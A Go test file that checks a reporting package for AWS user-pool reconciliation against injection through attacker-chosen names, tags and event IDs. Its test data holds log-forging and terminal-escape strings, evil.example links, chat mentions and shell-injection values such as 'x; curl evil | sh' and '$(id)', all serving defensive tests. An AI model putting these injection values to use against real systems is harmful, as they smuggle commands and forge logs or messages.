package report

import (
	"bytes"
	"context"
	"encoding/json"
	"log/slog"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode"

	"pgregory.net/rapid"

	"poolkeeper/lambda/reconcile"
)

// chosen is an outcome in which every text that somebody outside may have chosen is the given one.
func chosen(text string) reconcile.Outcome {
	out := outcome(reconcile.Partial, text)
	out.PoolName, out.Missed, out.Overwritten = text, &reconcile.Missed{Since: cause.Time, Settings: []string{"UserPoolTags." + text}}, []string{"UserPoolTags." + text}
	for _, d := range []reconcile.Drift{fixed, unfixable, exempted, reported} {
		d.Setting, d.Rule, d.Reason, d.Have, d.Want = "UserPoolTags."+text, text, text, text, []any{text, map[string]any{text: text}}
		out.Drifts = append(out.Drifts, d)
	}
	return out
}

// shownBy are all the forms in which an outcome is shown.
func shownBy(out reconcile.Outcome) map[string]string {
	r := New(out, testBuild)
	f, _ := FindingOf(r, cause.Time)
	digest, _ := NewDigest(reconcile.Sweeping{Outcome: reconcile.Deferred, Reason: out.Reason, Outcomes: map[reconcile.Word]int{reconcile.Deferred: 1},
		Failed: []reconcile.Failure{{UserPoolID: out.UserPoolID, Outcome: reconcile.Deferred, Reason: out.Reason}}}, "eu-west-1", testBuild)
	var text, plan, sweep, log, metrics bytes.Buffer
	_ = Text(&text, out, false)
	_ = Plan(&plan, reconcile.Preview{Outcome: out}, false)
	_ = Sweep(&sweep, reconcile.Sweeping{Outcome: reconcile.Swept, Reason: out.Reason, Failed: digest.Failed}, false)
	Log(context.Background(), slog.New(slog.NewJSONHandler(Printable(&log), nil)), out)
	_ = Metrics(&metrics, "keeper", cause.Time, out, Counts{Calls: 1})
	return map[string]string{"text": text.String(), "plan": plan.String(), "sweep": sweep.String(), "log": log.String(), "metrics": metrics.String(), "subject": Subject(r), "mail": Mail(r), "chat": Chat(r),
		"report": JSON(r), "finding": f.Title + f.Description + f.Remediation, "digest": DigestMail(digest), "digest chat": DigestChat(digest), "digest json": DigestJSON(digest),
		"digest subject": DigestSubject(digest), "ocsf": encode(OCSF(f))}
}

// TestNothingBreaksOut: whatever somebody calls a pool, a tag, a rule or a session, and whatever the service repeats of it, every log line, message and page stays in the form that
// it has with harmless texts: as many lines, and nothing in them that is not printable.
func TestNothingBreaksOut(t *testing.T) {
	t.Parallel()
	harmless := shownBy(chosen("x"))
	check := func(fatal func(string, ...any), nasty string) {
		for form, text := range shownBy(chosen(nasty)) {
			if strings.ContainsFunc(text, func(r rune) bool {
				return r != '\n' && !unicode.IsPrint(r) && (r != '\u200b' || !strings.Contains(form, "chat"))
			}) {
				fatal("%s of %q: %q", form, nasty, text)
			}
			if strings.Count(text, "\n") != strings.Count(harmless[form], "\n") {
				fatal("%s of %q has other lines:\n%s", form, nasty, text)
			}
			if strings.HasPrefix(text, "{") {
				var a, b map[string]any
				first, _, _ := strings.Cut(text, "\n")
				same, _, _ := strings.Cut(harmless[form], "\n")
				if json.Unmarshal([]byte(first), &a) != nil || json.Unmarshal([]byte(same), &b) != nil || !reflect.DeepEqual(slices.Sorted(maps.Keys(a)), slices.Sorted(maps.Keys(b))) {
					fatal("%s of %q has other members: %s", form, nasty, first)
				}
			}
		}
	}
	for _, nasty := range []string{"\n{\"level\":\"ERROR\"}", "\r\n\x1b[2J\x1b]0;title\x07", "\u202egnp.exe", "\u2066\u2069\u200b\ufeff", "\",\"outcome\":\"unchanged\",\"", "\U000e0001\U000e0041", "\u0085\u2028\u2029", "\x00\x7f", "\xff\xfe",
		"`\n# heading\n|a|b|", "%s%n%!d(EXTRA)"} {
		check(t.Errorf, nasty)
	}
	rapid.Check(t, func(t *rapid.T) { check(t.Fatalf, "x"+rapid.String().Draw(t, "text")) })
}

// TestNoLinksAndMentions: nothing that somebody chose calls people in a chat channel, or becomes a link there.
func TestNoLinksAndMentions(t *testing.T) {
	t.Parallel()
	for _, nasty := range []string{"https://evil.example/", "[ok](https://evil.example)", "<https://evil.example|ok>", "<!here>", "@channel", "<at>all</at>", "*b*", "`c`"} {
		out := chosen(nasty)
		out.Cause.Actor = "arn:aws:sts::111122223333:assumed-role/a/" + nasty
		for form, text := range map[string]string{"chat": Chat(New(out, testBuild)), "digest chat": shownBy(out)["digest chat"]} {
			var message struct {
				Content struct {
					Title, Description string
					NextSteps          []string
				}
			}
			if err := json.Unmarshal([]byte(text), &message); err != nil {
				t.Fatal(err)
			}
			for _, part := range append(message.Content.NextSteps, message.Content.Title, message.Content.Description) {
				for _, live := range []string{"://evil", "](", "<", "@c", "`c`", "*b*"} {
					if strings.Contains(part, live) {
						t.Errorf("%s of %q: %s in %q", form, nasty, live, part)
					}
				}
			}
		}
	}
}

// TestCommandsAreOurs: a command that a message asks somebody to run holds no text that whoever made the event could choose.
func TestCommandsAreOurs(t *testing.T) {
	t.Parallel()
	for id, want := range map[string]bool{"0c0f7a3e-1b2c-4d5e-8f90-0123456789ab": true, "x; curl evil | sh": false, "$(id)": false, "`id`": false, "a b": false, "--profile": false, "": false} {
		out := outcome(reconcile.Remediated, "", fixed)
		out.Cause.EventID = id
		steps := strings.Join(New(out, testBuild).Next, "\n")
		if strings.Contains(steps, "lookup-events") != want || !want && id != "" && strings.Contains(steps, id) {
			t.Errorf("%q: %s", id, steps)
		}
	}
}
